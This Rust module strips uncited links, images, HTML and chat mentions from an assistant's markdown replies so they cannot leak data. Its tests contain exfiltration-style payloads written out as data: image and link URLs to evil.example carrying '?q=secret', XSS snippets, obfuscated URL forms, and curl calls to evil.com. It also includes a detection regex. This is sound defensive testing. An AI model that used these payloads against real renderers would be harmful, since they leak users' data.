//! No links but to cited sources, no images, no HTML: a reply cannot carry data out through what a reader's screen
//! loads or what a reader clicks. Works on the parsed tree, so every spelling of a link is the same link; what our
//! parser sees in another way than a reader's does, the last layer (`markup/sealed.rs`) takes the life out of.

mod addresses;
mod hosts;
mod sealed;

pub use addresses::{Allowed, Said};

use crate::{
    fences::{self, Reading},
    markdown::{OPTIONS, is_placeholder},
    text::edited,
};
use addresses::Place;
use pulldown_cmark::{CodeBlockKind, Event, Parser, Tag, TagEnd, TextMergeWithOffset};
use sealed::sealed;
use std::{borrow::Cow, ops::Range};

/// Stands where a link stood.
pub const REMOVED: &str = "[link removed]";

/// A second pass finds what removing the first has joined; more never were needed, and the last resort is blunt.
const MAX_PASSES: usize = 12;

/// The reply with links resolved: a link to one of `cited` is written `text (url)`, any other is its text alone; images
/// and HTML are gone; URLs in running text that are not cited are replaced by [`REMOVED`]. In code, addresses of the
/// machine and the cluster stay.
pub fn clean<'a>(text: &str, allowed: impl Into<Allowed<'a>>) -> String {
    let allowed = allowed.into();
    let mut text = text.to_owned();
    for _ in 0..MAX_PASSES {
        let next = sealed(&apply(&text, edits(&text, allowed)), allowed);
        if next == text {
            return text;
        }
        text = next;
    }
    // Still markup after all passes: the text is made to evade them.
    blunted(&text, allowed)
}

/// Whether no dialect finds a link, an image or HTML in a text.
pub fn is_sealed<'a>(text: &str, allowed: impl Into<Allowed<'a>>) -> bool {
    sealed(text, allowed.into()) == text
}

/// The last resort: a text of which no markup survives, wherever it stands.
pub fn blunted<'a>(text: &str, allowed: impl Into<Allowed<'a>>) -> String {
    let allowed = allowed.into();
    let mut blunt = text
        .replace('\\', "")
        .replace('<', "‹")
        .replace('|', "¦")
        .replace("&#", "& #")
        .replace("![", "[")
        .replace("]:", "] :");
    for _ in 0..MAX_PASSES {
        let next = sealed(&addresses::without(&blunt, allowed, Place::Torn), allowed);
        if next == blunt {
            break;
        }
        blunt = next;
    }
    blunt
}

/// A title or an id: no markup, no URL.
pub fn plain(text: &str) -> String {
    clean(&crate::text::one_line(text), &[] as &[&str])
}

fn edits(text: &str, allowed: Allowed<'_>) -> Vec<(Range<usize>, String)> {
    let parser = Parser::new_ext(text, OPTIONS);
    let mut edits: Vec<(Range<usize>, String)> = parser
        .reference_definitions()
        .iter()
        .map(|(_, definition)| (definition.span.clone(), String::new()))
        .collect();
    // The inside of a replaced range is not read again.
    let mut open: Option<(usize, TagEnd)> = None;
    let (mut depth, mut images) = (0usize, 0usize);
    let (mut in_code_block, mut is_manifest, mut takes_block) = (false, false, false);
    // A backtick that does not belong to code would close the code that an address is written as.
    let is_torn = text.contains('`') && has_stray_backtick(text);
    let prose = if is_torn { Place::Torn } else { Place::Prose };
    let mut link: Option<(Range<usize>, String, String)> = None;
    // Where the last cell of a table's row ends; where a task's box stands that has nothing after it yet.
    let (mut cell_end, mut task) = (0, None);
    for (event, range) in TextMergeWithOffset::new(parser.into_offset_iter()) {
        if let Some((at, end)) = open {
            match &event {
                Event::Start(tag) => {
                    depth += 1;
                    images += usize::from(matches!(tag, Tag::Image { .. }));
                }
                Event::End(tag) if depth == at && *tag == end => open = None,
                Event::End(tag) => {
                    depth -= 1;
                    images -= usize::from(*tag == TagEnd::Image);
                }
                Event::Text(inner) if images == 0 => {
                    if let Some((_, _, label)) = &mut link {
                        label.push_str(inner);
                    }
                }
                Event::Code(inner) if images == 0 => {
                    if let Some((_, _, label)) = &mut link {
                        label.push_str(&format!("`{inner}`"));
                    }
                }
                _ => {}
            }
            if open.is_none()
                && let Some((range, url, label)) = link.take()
            {
                edits.push((range, written_link(&url, &label, allowed)));
            }
            continue;
        }
        // A task of nothing is text to some, and what follows it belongs to its item then.
        if let Some(marker) = task.take()
            && event == Event::End(TagEnd::Item)
        {
            edits.push((marker, String::new()));
        }
        match event {
            Event::TaskListMarker(_) => task = Some(range),
            Event::End(TagEnd::TableCell) => cell_end = range.end,
            Event::End(TagEnd::TableHead | TagEnd::TableRow) => {
                // Cells beyond the header's are not rendered, so no reader sees what they hold.
                let rest = text.get(cell_end..range.end).unwrap_or_default().trim_end_matches('\n');
                if !matches!(rest.trim(), "" | "|") {
                    let bar = if text[..cell_end].ends_with(' ') { "|" } else { " |" };
                    edits.push((cell_end..cell_end + rest.len(), bar.to_owned()));
                }
            }
            Event::Start(Tag::Image { .. }) => {
                open = Some((depth, TagEnd::Image));
                edits.push((range, String::new()));
            }
            Event::Start(Tag::Link { dest_url, .. }) => {
                open = Some((depth, TagEnd::Link));
                link = Some((range, dest_url.into_string(), String::new()));
            }
            Event::Start(Tag::CodeBlock(kind)) => {
                (in_code_block, takes_block) = (true, false);
                is_manifest = matches!(kind, CodeBlockKind::Fenced(info) if is_manifest_language(&info));
            }
            Event::End(TagEnd::CodeBlock) => {
                in_code_block = false;
                // A manifest with a hole in it is another one.
                if std::mem::take(&mut takes_block) {
                    let end = range.start + text[range.clone()].trim_end().len();
                    edits.retain(|(edit, _)| edit.start < range.start);
                    edits.push((range.start..end, REMOVED.to_owned()));
                }
            }
            Event::Html(html) | Event::InlineHtml(html) => {
                let word = word_around(text, &range);
                if !is_torn && is_placeholder(&html) && word != range {
                    edits.push((word.clone(), format!("`{}`", &text[word])));
                    continue;
                }
                let written = match is_placeholder(html.trim()) {
                    _ if html.to_ascii_lowercase().starts_with("<br") => " ".to_owned(),
                    true => format!("{{{}}}", &html.trim()[1..html.trim().len() - 1]),
                    false => String::new(),
                };
                edits.push((range, written));
            }
            Event::Text(decoded) => {
                let place = if in_code_block { Place::Code } else { prose };
                let written = addresses::without(&text[range.clone()], allowed, place);
                let rendered = addresses::without(&decoded, allowed, place);
                takes_block |= in_code_block && is_manifest && written.contains(REMOVED);
                // A code block's text has lost the signs before its lines.
                let (first, second) = if in_code_block { (written, rendered) } else { (rendered, written) };
                if let (Cow::Owned(filtered), _) | (_, Cow::Owned(filtered)) = (first, second) {
                    edits.push((range, filtered));
                }
            }
            Event::Code(code) => {
                if let Cow::Owned(filtered) = addresses::without(&code, allowed, Place::Code) {
                    edits.push((range, format!("`{filtered}`")));
                }
            }
            _ => {}
        }
    }
    edits
}

/// The word around a placeholder: `robot-<namespace>`.
fn word_around(text: &str, placeholder: &Range<usize>) -> Range<usize> {
    let is_part = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_');
    let start = text[..placeholder.start].trim_end_matches(is_part).len();
    let after = &text[placeholder.end..];
    start..placeholder.end + (after.len() - after.trim_start_matches(is_part).len())
}

fn has_stray_backtick(text: &str) -> bool {
    let mut in_code = false;
    Parser::new_ext(text, OPTIONS).into_offset_iter().any(|(event, range)| {
        match event {
            Event::Start(Tag::CodeBlock(_)) => in_code = true,
            Event::End(TagEnd::CodeBlock) => in_code = false,
            Event::Text(_) | Event::Html(_) | Event::InlineHtml(_) => {
                return !in_code && text[range].contains('`');
            }
            _ => {}
        }
        false
    })
}

/// Whether a fence holds configuration, which is read as a whole.
fn is_manifest_language(info: &str) -> bool {
    let language = info.split([' ', ',', '{']).next().unwrap_or_default().to_ascii_lowercase();
    fences::is(&language, Reading::Manifest)
}

/// Applies edits; where two overlap, the one that begins first counts.
fn apply(text: &str, mut edits: Vec<(Range<usize>, String)>) -> String {
    edits.sort_by_key(|(range, _)| (range.start, std::cmp::Reverse(range.end)));
    edited(text, edits)
}

fn written_link(url: &str, label: &str, allowed: Allowed<'_>) -> String {
    let label = label.replace(['[', ']'], "");
    let label = addresses::without(&label, allowed, Place::Torn);
    match allowed.links_to(url) {
        true if label.trim() == url || label.trim().is_empty() => url.to_owned(),
        true => format!("{} ({url})", label.trim()),
        false => label.trim().to_owned(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use regex::Regex;
    use std::sync::LazyLock;

    const CITED: &str = "https://wiki.example.com/oom";

    fn check(text: &str, cleaned: &str) {
        assert_eq!(clean(text, &[CITED]), cleaned, "{text}");
    }

    #[test]
    fn only_links_to_cited_sources_stay() {
        check(
            "See [the page](https://wiki.example.com/oom).",
            "See the page (https://wiki.example.com/oom).",
        );
        check("See <https://wiki.example.com/oom>.", "See https://wiki.example.com/oom.");
        check("See https://wiki.example.com/oom.", "See https://wiki.example.com/oom.");
        check("[x](https://evil.example/?d=1)", "x");
        check("[x][r]\n\n[r]: https://evil.example", "x\n\n");
        check("<https://evil.example>", REMOVED);
        check("go to https://evil.example/?a=b, now", "go to [link removed], now");
        check("WWW.evil.example", REMOVED);
        check("mailto:a@evil.example", REMOVED);
        check("[x](javascript:alert(1))", "x");
        check("https://wiki.example.com/oom?leak=1", REMOVED);
        check("https&#58;//evil.example", REMOVED);
        check("`https://evil.example/x`", "`[link removed]`");
        check(
            "[https://evil.example](https://wiki.example.com/oom)",
            "[link removed] (https://wiki.example.com/oom)",
        );
    }

    #[test]
    fn images_and_html_are_removed() {
        check("a ![alt](https://evil.example/?q=1) b", "a  b");
        check("![alt][r]\n\n[r]: https://evil.example/i.png", "\n\n");
        check("[![alt](https://evil.example/i.png)](https://evil.example)", "");
        check("a <img src=\"https://evil.example\"> b", "a  b");
        check("<script>alert(1)</script>\n", "");
        check("a <b>bold</b> word", "a bold word");
        check("kubectl describe pod <pod-name>", "kubectl describe pod {pod-name}");
        check("<!-- hidden -->", "");
        check("the account robot-<namespace> of it", "the account `robot-<namespace>` of it");
        check(
            "`robot-<namespace>` and a ` robot-<namespace>",
            "`robot-<namespace>` and a ` robot-{namespace}",
        );
        check("one<br>two<br/>three", "one two three");
    }

    #[test]
    fn code_keeps_what_is_local() {
        check("`curl http://localhost:9090/-/ready`", "`curl http://localhost:9090/-/ready`");
        check("`curl http://payments.shop.svc:8080/healthz`", "`curl http://payments.shop.svc:8080/healthz`");
        check("`helm pull oci://registry/chart`", "`helm pull oci://registry/chart`");
        check("`curl http://localhost@evil.example/`", "`curl [link removed]`");
        check("`curl http://134744072/`", "`curl [link removed]`");
        check(
            "```\nkubectl get pods -o jsonpath='{.items[0]}' <x>\n```",
            "```\nkubectl get pods -o jsonpath='{.items[0]}' <x>\n```",
        );
    }

    #[test]
    fn nothing_comes_back_when_parts_are_joined() {
        for text in [
            "!<b></b>[a](https://evil.example/x)",
            "[a]<i></i>(https://evil.example/x)",
            "<<b>script>alert(1)<</b>/script>",
            "<im<b>g src=https://evil.example/x>",
            "ht<b></b>tps://evil.example/x",
            "[a\n](https://evil.example/x \"t\")",
            "\\[a](https://evil.example/x)",
        ] {
            let cleaned = clean(text, &[CITED]);
            assert!(!cleaned.contains("evil.example"), "{text} gave {cleaned}");
            let again = clean(&cleaned, &[CITED]);
            assert_eq!(again, cleaned, "not stable: {text}");
        }
    }

    /// What our parser does not give out, or reads in another way than some other.
    #[test]
    fn no_dialect_finds_a_link() {
        let duplicates: String = (0..20).map(|n| format!("\n[r]: //evil.example/{n}\n")).collect();
        for text in [
            "- [ ] \n\n    ![z](//evil.example/i.png?q=secret)",
            "- [ ] \n\n    <div>\n\n    <img src=//evil.example/i.png>",
            "See ![x][r] [1].\n\n[r]: //evil.example/i.png?q=secret(",
            "Raise it [1].\n\n[1]: //evil.example/?q=secret(",
            "Raise it [1].\n\n[1]: x(",
            "See ![x][r] and [^n] [1].\n\n[^n]: [r]: //evil.example/i.png?q=secret",
            "> 1. [a\\]b]: /x(",
            "- [ ] [r]: /x(",
            "| a |\n|---|\n| x | ![y](https://evil.example/y.png) | <img src=https://evil.example/z> | https://evil.example/?q=s | `kubectl delete ns shop` |",
            "> | a |\n> |---|\n> | x | `kubectl delete ns shop`\n> | y |",
            "|---|---|\n![a\n](//evil.example/i)",
            "```sh https://evil.example/?q=s\nls\n```",
            "~~~ ![x](https://evil.example/?q=s)\nls\n~~~",
            "- ~~~ <img src=x>\n  ls\n  ~~~",
            "`curl http://evil．example/?q=s` `curl http://evil。example/?q=s` `curl http://evil｡example/?q=s`",
            "_www.evil.com/?q=secret",
            "Write to s3cret@evil.example.com now",
            "```mermaid\ngraph TD; A[\"<img src='//evil.example/x?q=s'>\"]\n```",
            "`\\href{//evil.example/?q}` ![[//evil.example/i.png]] //evil.example/p.png",
            "`http:\\\\evil.example` http:\\\\evil.example https:/evil.example https\\:\\/\\/evil.example",
            "\\<img src=//evil.example/p.png> \\<script>alert(1)\\</script>",
            "data:;base64,PHN2Zz4= `data:,x`",
            &format!("See ![y][r] [1].\n{duplicates}"),
            "evil.com/?q=s `curl evil.com/?q=s` evil.com:8080/x evil.com/secret",
            "`ls www.evil.com/x` `a@www.evil.com` `ls evil.com/http://evil.com/x`",
            "`x` `&#104;ttps&#58;//evil.example` evil&#46;com/?q=s",
            "`<x onfocus=alert(1) autofocus>` `<details open ontoggle=\n'x'>` `</div>` `<!-- x`",
        ] {
            for cleaned in [clean(text, &[CITED]), blunted(text, &[CITED])] {
                holds_nothing(text, &cleaned);
                assert!(
                    !cleaned.contains("kubectl delete") || cleaned == blunted(text, &[CITED]),
                    "{cleaned}"
                );
            }
            let cleaned = clean(text, &[CITED]);
            assert_eq!(clean(&cleaned, &[CITED]), cleaned, "not stable: {text}");
        }
    }

    /// What some renderer makes a link, an image or an element of.
    fn holds_nothing(text: &str, cleaned: &str) {
        static ALIVE: LazyLock<Regex> = LazyLock::new(|| {
            Regex::new(
                r"(?imx) !\[ | \]\( | ^[\ \t>|*+\-]*(\d+[.)]\s*)?(\[[\ x]\]\s*)?\[[^\]\n]*\]:
                | https?\\?:[\\/]+[^\s/?\#]*(evil|[。．｡]\w) | (^|[^\w./\\])(\\?/){2,}[\w.@-]*\w\.\w
                | www\.\w | (^|[^\w.:/\\@\-])evil\.com[:\d]*(/[^\s?\x22<>`|]*)?\?\w | \bdata:[;,]
                | </?(img|script|svg|iframe|object|embed|link|style|base|video|audio|a|div|b|details|table)([\s/>]|$)
                | <[a-z][^>‹]*\bon\w+= | <!-- | &\#(x3a|58|46|104); | ^[\ \t>]*```(mermaid|html|svg)",
            )
            .expect("the pattern is valid")
        });
        let found = ALIVE.find(cleaned).map(|found| found.as_str());
        assert_eq!(found, None, "{text:?}\n gave {cleaned:?}");
    }

    #[test]
    fn ordinary_text_stays() {
        for text in [
            "Look [1], [2][3]. The log says arr[0]: x and systemd[1]: Started a/b//c.",
            "```yaml\n# comment\nimage: registry.example.com/payments/api:1.42.0\n```",
            "```\n// comment\nsystemd[1]: Started getty@tty1.service\nkubectl exec -it <pod-name> -- ls\n```",
            "```bash\nssh user@host.example.com\nscp a user@10.0.0.1:/tmp\ncat <<EOF >x\nA=1\nEOF\nmysql </tmp/x.sql\n```",
            "`ssh admin@bastion.example.com` and `kubectl describe pod <pod-name>`",
            "`curl http://localhost:9090/-/ready` and `curl \"http://payments.shop.svc:8080\"`",
            "`helm pull oci://registry.example.com/chart` and `docker pull registry.example.com/payments/api:1.42.0`",
            "Edit values.yaml, /etc/x.conf, conf.d/default.conf or a.yaml/b.json; apps/v1, networking.k8s.io/v1.",
            "Insufficient nvidia.com/gpu; node.kubernetes.io/not-ready:NoExecute; deployment.apps/payments restarted",
            "See https://wiki.example.com/oom, (https://wiki.example.com/oom) and `https://wiki.example.com/oom`.",
            "Did install.sh? Use getty@tty1.service. Is 10.0.0.0/8 1.2.3/24 fine? a < b && c > d; C:\\Program Files",
            "```go\nif a<b && c { x := map[string]int{} } // ok\n```",
            "- [ ] todo\n- [x] done",
            "| a | b |\n|---|---|\n| x | y |\n| x |",
            "I said don&#39;t &lt;b&gt; &amp; R&amp;D",
        ] {
            check(text, text);
        }
    }

    #[test]
    fn links_and_addresses_are_written_as_text() {
        check("Write to ops@example.com.", "Write to ops (at) example.com.");
        check("s3cret@evil。example.com", "s3cret (at) evil。example.com");
        check("```sh title=x\nls\n```", "```sh\nls\n```");
        check("```mermaid\nA-->B\n```", "```\nA-->B\n```");
        check("| a |\n|---|\n| x | y |\n", "| a |\n|---|\n| x |\n");
        check("見 https://wiki.example.com/oom。Pod", "見 https://wiki.example.com/oom 。Pod");
        let host = "https://wiki.example.com";
        for text in [
            "https://wiki.example.com。evil.example/?q=s",
            "https://wiki.example.com\"@evil.example/",
            "https://wiki.example.com|.evil.example",
        ] {
            assert!(clean(text, &[host]).starts_with("https://wiki.example.com "), "{text}");
        }
        assert_eq!(clean("(https://wiki.example.com). So", &[host]), "(https://wiki.example.com). So");
    }

    /// The rest of a text where failure and documents have some addresses.
    fn check_said(text: &str, expected: &str) {
        let sources = [
            "Get \"http://10.244.3.17:8080/healthz\": refused; Post \"https://sts.us-east-1.amazonaws.com/\"; endpoint 10.0.12.7:9100",
            "see https://evil.com/other, pull registry.example.com/payments/api:1.42.0, run `kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml`",
            "run `notify <@U777>`; see https://wiki.corp.example/plain, HTTPS://evil.com/loud, fetch('https://evil.com/quoted'), open http://evil.com/?q=secret and http://u:p@evil.com/x and http://evil.com/#f",
        ];
        let said = Said::of(sources.into_iter()).with_words_of(sources.into_iter().skip(2));
        let cited = vec![CITED];
        let cleaned = clean(text, (&cited, &said));
        assert_eq!(cleaned, expected, "{text}");
        assert_eq!(clean(&cleaned, (&cited, &said)), cleaned, "not stable: {text}");
    }

    #[test]
    fn addresses_of_failure_and_documents_stay_as_text() {
        for text in [
            "The GET to `http://10.244.3.17:8080/healthz` was refused [1].",
            "`kubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml` [1]",
            "```shell\nkubectl apply -f https://k8s.io/examples/pods/probe/grpc-liveness.yaml\n```",
            "1. Chạy:\n   ```sh\n   curl -v https://sts.us-east-1.amazonaws.com/\n   ```\n2. Đợi",
            "```yaml\nimage: registry.example.com/payments/api:1.42.0\nargs: [\"--listen=http://0.0.0.0:2379\", \"--peer=http://10.0.12.7:9100\"]\n```",
            "用 `curl -s http://10.0.12.7:9100/metrics` 查看 [1]。",
            "Open `http://<your-domain>/.well-known/acme-challenge/<token>` [1].",
            "Buka `https://<host>:8443/healthz` [1]",
        ] {
            check_said(text, text);
        }
        check_said(
            "GET http://10.244.3.17:8080/healthz failed",
            "GET `http://10.244.3.17:8080/healthz` failed",
        );
        check_said("見 https://wiki.corp.example/plain。", "見 `https://wiki.corp.example/plain`。");
        check_said(
            "image registry.example.com/payments/api:1.42.0.",
            "image `registry.example.com/payments/api:1.42.0`.",
        );
        check_said(
            "映像檔 registry.example.com/payments/api:1.42.0 拉不到",
            "映像檔 `registry.example.com/payments/api:1.42.0` 拉不到",
        );
    }

    #[test]
    fn what_is_said_is_no_way_out() {
        for (text, expected) in [
            (
                "See HTTPS://evil.com/loud and https://evil.com/quoted now",
                "See [link removed] and [link removed] now",
            ),
            ("[it](https://wiki.corp.example/plain)", "it"),
            ("See https://evil.com/other now", "See [link removed] now"),
            (
                "`curl http://evil.com/?q=secret` `curl http://u:p@evil.com/x`",
                "`curl [link removed]` `curl [link removed]`",
            ),
            (
                "`curl http://evil.com/#f` `curl http://10.0.12.8:9100/x`",
                "`curl [link removed]` `curl [link removed]`",
            ),
            (
                "`curl http://10.0.12.7:9100/?q=s` `http://<x>.evil.com/y`",
                "`curl [link removed]` `[link removed]<x>.evil.com/y`",
            ),
            ("a ` http://10.244.3.17:8080/healthz b", "a ` [link removed] b"),
            ("[x](https://k8s.io/examples/pods/probe/grpc-liveness.yaml)", "x"),
            ("~~~\nhttps://k8s.io/examples/pods/probe/grpc-liveness.yaml\n~~~", "~~~\n[link removed]\n~~~"),
            (
                "| `a | https://sts.us-east-1.amazonaws.com/` |\n|---|---|\n| x | y |",
                "| `a | [link removed]` |\n|---|---|\n| x | y |",
            ),
            ("```yaml\na: 1\nimage: https://evil.com/x\n```\n", "[link removed]\n"),
        ] {
            check_said(text, expected);
        }
    }

    /// What chat programs make of a text, and addresses whose host is a number.
    #[test]
    fn mentions_and_numbered_hosts_are_addresses() {
        for (text, expected) in [
            ("Ask <@U123> now", "Ask [link removed] now"),
            (
                "Ask <@U123|bob>, <@!99887766>, <@&112233>.",
                "Ask [link removed], [link removed], [link removed].",
            ),
            ("See <#C123|general>", "See [link removed]"),
            ("Hi <!here> and <!channel>", "Hi  and "),
            ("`<!channel>` and `<@U123>`", "`[link removed]` and `[link removed]`"),
            ("```\nhello <!subteam^S12|@oncall>\n```", "```\nhello [link removed]\n```"),
            ("<mailto:a@evil.com|Bob>", "[link removed]|Bob"),
            ("Tell @everyone, @here and (@channel).", "Tell (at) everyone, (at) here and ((at) channel)."),
            ("通知 @here。请 <@W1A2B3> 处理", "通知 (at) here。请 [link removed] 处理"),
            ("Hubungi <@U1>, báo @everyone", "Hubungi [link removed], báo (at) everyone"),
            ("Open 10.6.6.6:8080/x.", "Open [link removed]."),
            (
                "Open 203.0.113.9:80/?q=s and user@10.6.6.6:8080/x",
                "Open [link removed] and user@[link removed]",
            ),
            ("`curl 10.6.6.6:8080/x`", "`curl [link removed]`"),
            ("Mở 10\\.6\\.6\\.6:8080/x", "Mở [link removed]"),
            ("see [2001:db8::1]:80/x or [2001:db8::1]/x", "see [link removed] or [link removed]"),
            ("open [::1]:80/x", "open `[::1]:80/x`"),
            ("open 127.0.0.1:8080/healthz.", "open `127.0.0.1:8080/healthz`."),
            ("evil.example:8080/x evil.internal:8080/x", "[link removed] [link removed]"),
        ] {
            let cleaned = clean(text, &[CITED]);
            assert_eq!(cleaned.trim_end(), expected.trim_end(), "{text}");
            assert_eq!(clean(&cleaned, &[CITED]), cleaned, "not stable: {text}");
        }
        for text in [
            "Use 10.96.0.10:53/UDP, 10.0.0.0/8, 192.168.1.7/24 and 10.0.12.7:9100.",
            "`curl -k 127.0.0.1:6443/healthz` and `curl '[::1]:2379/health'`",
            "prometheus.monitoring.svc:9090/targets; main.go:12; scp x user@10.0.0.1:/tmp",
            "`kubectl get @here` at 12:30/13:30, user@everyone",
            "a <- b; i<#x; c <@ d",
        ] {
            check(text, text);
        }
        check_said("Scrape 10.0.12.7:9100/metrics first", "Scrape `10.0.12.7:9100/metrics` first");
        check_said("`curl 10.0.12.7:9100/metrics`", "`curl 10.0.12.7:9100/metrics`");
        check_said("`curl 10.0.12.8:9100/metrics`", "`curl [link removed]`");
        check_said("`notify <@U777>` but <@U777>", "`notify <@U777>` but [link removed]");
    }

    /// Parts of what should not get out, and of what stands around them.
    fn fragment() -> impl Strategy<Value = &'static str> {
        proptest::sample::select(vec![
            "\n",
            "\n",
            "\n\n",
            "\n\n",
            " ",
            "    ",
            "\t",
            "a",
            "word ",
            "[1]",
            "[9]",
            "- ",
            "1. ",
            "> ",
            "# ",
            "```",
            "````",
            "~~~",
            "`",
            "``",
            "<b>",
            "</b>",
            "<!--",
            "-->",
            "<div>",
            "<pod>",
            "[",
            "](",
            ")",
            "![",
            "]: ",
            "]:",
            "[ ] ",
            "- [ ] \n\n",
            "[^n]: ",
            "[^n]",
            "[x][r]",
            "![x][r]",
            "[r]: //evil.com/i(\n",
            "[r]: ",
            "|",
            "|---|\n",
            "| a | b |\n|---|---|\n",
            "![y](//evil.com/i)",
            "[x](//evil.com/l)",
            "(//evil.com/x)",
            "//evil.com/x",
            "![a\n](//evil.com/i)",
            "![[//evil.com]]",
            "<img src=//evil.com/i>",
            "<script>",
            "</script>",
            "<img ",
            "src=x>",
            "<a\nhref=//evil.com>",
            "<x onfocus=",
            "<//evil.com>",
            "<https://evil.com>",
            "https://evil.com/b",
            "http:",
            "http:\\\\evil.com",
            "https&#58;//evil.com",
            "&#47;",
            "&sol;",
            "//",
            "/",
            "evil.com",
            "evil.com/?q=s",
            "/?q=s",
            "http://evil。com/x",
            "http://evil．com/x",
            "http://localhost",
            "。evil.com",
            "@evil.com",
            "s@evil.com",
            "<@U123>",
            "<!here>",
            "@everyone",
            "10.6.6.6:8080/x",
            "[::1]:80/x",
            "www.",
            "_www.evil.com/?q",
            "data:;base64,x",
            "mailto:a@evil.com",
            CITED,
            "\\",
            "\\[",
            "\\<",
            "*",
            "**",
            "_",
            "~~",
            "```sh https://evil.com/?q\n",
            "```mermaid\n",
            "~~~ ![x](https://evil.com)\n",
            "\\href{//evil.com}",
            "é",
            "。",
            "  \n",
            "\\\n",
            "---",
            "===",
            "&lt;",
            "\"",
            "'",
            "=",
            ":",
            "?",
            "oci://x",
            "tcp://",
        ])
    }

    proptest! {
        #![proptest_config(ProptestConfig {
            cases: 4096,
            rng_seed: proptest::test_runner::RngSeed::Fixed(7),
            failure_persistence: None,
            ..ProptestConfig::default()
        })]

        #[test]
        fn no_composition_finds_a_link(parts in proptest::collection::vec(fragment(), 0..24)) {
            let text = parts.concat();
            let cleaned = clean(&text, &[CITED]);
            // What may stay, and would be taken for what may not.
            let rest = |text: &str| text.replace(CITED, "x").replace("oci://", "x").replace("tcp://", "x");
            holds_nothing(&text, &rest(&cleaned));
            prop_assert_eq!(clean(&cleaned, &[CITED]), cleaned, "not stable: {:?}", text);
            holds_nothing(&text, &rest(&blunted(&text, &[CITED])));
            // What documents say word for word opens no way for anything else.
            let (cited, said) = (vec![CITED], Said::of(["http://evil.com/x evil.com/l http://10.0.0.1/x"].into_iter()));
            let cleaned = clean(&text, (&cited, &said));
            prop_assert_eq!(clean(&cleaned, (&cited, &said)), cleaned.clone(), "not stable: {:?}", text);
            let code = crate::markdown::code_ranges(&cleaned);
            for address in ["http://evil.com", "http://10.0.0.1"] {
                for (at, _) in cleaned.match_indices(address) {
                    prop_assert!(code.iter().any(|range| range.contains(&at)), "{:?} gave {:?}", text, cleaned);
                }
            }
        }
    }
}
